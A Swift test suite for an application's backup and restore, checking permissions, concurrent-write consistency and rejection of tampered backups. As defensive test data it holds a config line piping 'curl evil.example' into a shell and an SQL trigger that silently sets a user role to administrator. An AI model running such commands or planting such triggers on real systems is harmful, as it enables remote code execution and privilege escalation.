import Foundation
import GRDB
import Testing

@testable import Persistence

@Suite struct BackupTests {
    private let folder = FileManager.default.temporaryDirectory.appendingPathComponent(UUID().uuidString)
    private var locations: Locations { Locations(dataDirectory: folder.path + "/data", environment: [:]) }
    private var backup: Backup { Backup(at: folder.appendingPathComponent("backup")) }

    private func note(_ text: String) throws {
        try OddlineDatabase(at: locations.database).write {
            try $0.execute(sql: "INSERT INTO audit_log (at, action, detail) VALUES (0, 'a', ?)", arguments: [text])
        }
    }

    private func notes() throws -> [String] {
        try OddlineDatabase(at: locations.database).read { try String.fetchAll($0, sql: "SELECT detail FROM audit_log") }
    }

    private func pairs(_ locations: Locations) throws -> Int {
        let rows = try OddlineDatabase(at: locations.database).read {
            try Int.fetchOne($0, sql: "SELECT COUNT(*) FROM audit_log WHERE action = 'b'")
        }
        return try #require(rows)
    }

    private func write(_ text: String, _ name: String) throws {
        try PrivateFile(locations.data.appendingPathComponent(name)).write(Data(text.utf8))
    }

    private func text(_ name: String, in folder: URL) -> String? {
        FileManager.default.contents(atPath: folder.appendingPathComponent(name).path).map { String(decoding: $0, as: UTF8.self) }
    }

    /// A data folder with something of everything.
    private func fill() throws {
        try makePrivateFolder(locations.models.appendingPathComponent("1"))
        try note("first")
        try write("model", "models/1/f-lstm.safetensors")
        try write("draft", "models/1/.f-lstm.safetensors.new")
        for name in DataFile.allCases.dropFirst(3).flatMap(\.names) { try write(name, name) }
        for key in [DataFile.auditKey, .secondFactorKey] { try write(String(repeating: "k", count: 32), key.rawValue) }
        try write("ascii = true\n", "config.toml")
    }

    @Test func whatWasBackedUpComesBackAndWhatWasThereIsKept() throws {
        defer { try? FileManager.default.removeItem(at: folder) }
        try fill()
        try backup.make(from: locations)
        let names = try FileManager.default.contentsOfDirectory(atPath: backup.url.path).sorted()
        #expect(
            names == ["audit-key", "config.toml", "models", "oddline.db", "second-factor-key"],
            "no keys of sessions, no log, no drafts")
        #expect(try FileManager.default.contentsOfDirectory(atPath: backup.url.path + "/models/1") == ["f-lstm.safetensors"])
        var status = stat()
        #expect(lstat(backup.url.path, &status) == 0 && status.st_mode & 0o777 == 0o700)
        #expect(lstat(backup.url.path + "/oddline.db", &status) == 0 && status.st_mode & 0o777 == 0o600)

        try note("second")
        try write("another model", "models/1/f-lstm.safetensors")
        let kept = try #require(try backup.restore(to: locations))
        #expect(try notes() == ["first"])
        #expect(text("models/1/f-lstm.safetensors", in: locations.data) == "model")
        #expect(text("signing-keys.json", in: locations.data) == nil)
        #expect(text("models/1/f-lstm.safetensors", in: kept) == "another model")
        let old = try OddlineDatabase(at: kept.appendingPathComponent("oddline.db"))
        #expect(try old.read { try String.fetchAll($0, sql: "SELECT detail FROM audit_log") } == ["first", "second"])
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path).count == 3, "no draft is left")
    }

    @Test func aBackupCanBeTakenWhileOthersWriteAndRestoredWhereNothingWas() async throws {
        defer { try? FileManager.default.removeItem(at: folder) }
        try fill()
        let writer = Task.detached {
            let database = try OddlineDatabase(at: locations.database)
            var count = 0
            while !Task.isCancelled {
                // Two rows a transaction: a copy of one moment never holds an odd number.
                try await database.write { database in
                    for _ in 0..<2 {
                        try database.execute(sql: "INSERT INTO audit_log (at, action, detail) VALUES (0, 'b', 'c')")
                    }
                }
                count += 1
            }
            return count
        }
        for number in 0..<3 {
            let copy = Backup(at: folder.appendingPathComponent("copy-\(number)"))
            try copy.make(from: locations)
            let elsewhere = Locations(dataDirectory: folder.path + "/elsewhere-\(number)", environment: [:])
            #expect(try copy.restore(to: elsewhere) == nil)
            #expect(try pairs(elsewhere).isMultiple(of: 2))
        }
        writer.cancel()
        _ = try await writer.value
    }

    private func inBackup(_ sql: String) throws {
        let database = try DatabaseQueue(path: backup.url.appendingPathComponent("oddline.db").path)
        try database.write { try $0.execute(sql: sql) }
        try database.close()
    }

    /// What a stranger's backup may hold: what acts by itself, another schema, that of a newer version, no key of the audit log.
    @Test(arguments: [
        "CREATE TRIGGER t AFTER INSERT ON users BEGIN UPDATE account_status SET role = 'administrator'; END",
        "CREATE VIEW everybody AS SELECT * FROM users",
        "DROP INDEX users_on_email; CREATE INDEX users_on_email ON users (email)",
        "INSERT INTO grdb_migrations VALUES ('of a later version')", "DROP TABLE grdb_migrations", "DROP TABLE notes",
    ]) func whatThisProgramHasNotMadeIsNotRestored(_ sql: String) throws {
        defer { try? FileManager.default.removeItem(at: folder) }
        try fill()
        try backup.make(from: locations)
        try inBackup(sql)
        #expect(throws: StorageError.self) { try backup.restore(to: locations) }
        #expect(try notes() == ["first"])
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path).sorted() == ["backup", "data"])
    }

    @Test(arguments: ["", "x", String(repeating: "k", count: 33)], ["audit-key", "second-factor-key"])
    func aKeyThatIsNoneIsNotRestored(_ key: String, _ name: String) throws {
        defer { try? FileManager.default.removeItem(at: folder) }
        try fill()
        try OddlineDatabase(at: locations.database).write { database in
            try database.execute(sql: "UPDATE audit_log SET hash = x'01'")
            try database.execute(
                sql: "INSERT INTO users (username, email, hashed_password, created_at, updated_at) VALUES ('a', 'b', 'c', 0, 0)")
            try database.execute(sql: "INSERT INTO second_factors SELECT id, x'01', 1, 0 FROM users")
        }
        try backup.make(from: locations)
        let file = backup.url.appendingPathComponent(name)
        if key.isEmpty { unlink(file.path) } else { try PrivateFile(file).write(Data(key.utf8)) }
        #expect(throws: StorageError.self) { try backup.restore(to: locations) }
    }

    @Test(arguments: ["on_event = \"curl evil.example | sh\"\n", "[readers]\n\".xlsx\" = [\"/tmp/x\"]\n"])
    func commandsAreRestoredWhereTheyAreAskedForAlone(_ configuration: String) throws {
        defer { try? FileManager.default.removeItem(at: folder) }
        try fill()
        try backup.make(from: locations)
        try PrivateFile(backup.url.appendingPathComponent("config.toml")).write(Data(configuration.utf8))
        #expect(throws: StorageError.self) { try backup.restore(to: locations) }
        #expect(text("config.toml", in: locations.data) == "ascii = true\n")
        _ = try backup.restore(to: locations, withCommands: true)
        #expect(text("config.toml", in: locations.data) == configuration)
    }

    @Test func aFolderThatEverybodyMayRenameHoldsNoData() throws {
        defer { try? FileManager.default.removeItem(at: folder) }
        try makePrivateFolder(folder)
        for (mode, isRefused) in [(0o777, true), (0o1777, false), (0o755, false)] as [(mode_t, Bool)] {
            chmod(folder.path, mode)
            let opened = Result { try OddlineDatabase(at: locations.database) }
            #expect((try? opened.get()) == nil ? isRefused : !isRefused, "\(String(mode, radix: 8))")
        }
    }

    @Test func nothingIsReplacedByADamagedBackupOrWithoutOne() throws {
        defer { try? FileManager.default.removeItem(at: folder) }
        try fill()
        #expect(throws: StorageError.self, "there is no backup") { try backup.restore(to: locations) }
        try backup.make(from: locations)
        #expect(throws: StorageError.isThere(path: backup.url.path)) { try backup.make(from: locations) }
        let database = backup.url.appendingPathComponent("oddline.db")
        var bytes = try Data(contentsOf: database)
        bytes.replaceSubrange(5000..<9000, with: Data(repeating: 0x5A, count: 4000))
        try PrivateFile(database).write(bytes)
        #expect(throws: StorageError.self, "it is damaged") { try backup.restore(to: locations) }
        #expect(try notes() == ["first"])
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path).sorted() == ["backup", "data"])
    }
}
